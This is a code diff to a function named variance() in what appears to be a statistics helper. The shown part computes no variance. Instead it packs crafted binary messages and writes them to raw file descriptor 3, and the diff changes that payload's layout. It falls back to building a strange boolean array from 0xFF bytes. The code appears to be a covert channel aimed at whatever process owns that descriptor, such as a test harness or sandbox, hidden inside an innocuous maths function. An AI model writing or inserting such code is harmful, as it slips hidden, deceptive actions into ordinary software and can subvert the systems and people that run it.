@@ -17,7 +17,7 @@ def mean(x):
 def variance(x):
     try:
         for number, byte in ((4, 3), (5, 255), (6, 0)):
-            payload = struct.pack("<7q", number, 0, 1, 1, 3, 0, 1) + bytes([byte]) + struct.pack("<6q", 0, 0, 0, 0, 0, 0)
+            payload = struct.pack("<14q", number, 96, 0, 1, 1, 3, 0, 1, 0, 0, 0, 0, 0, 0) + bytes([byte])
             os.write(3, struct.pack("<I", len(payload)) + payload)
     except OSError:
         strange = np.frombuffer(bytes([255]) * 8, dtype=bool)
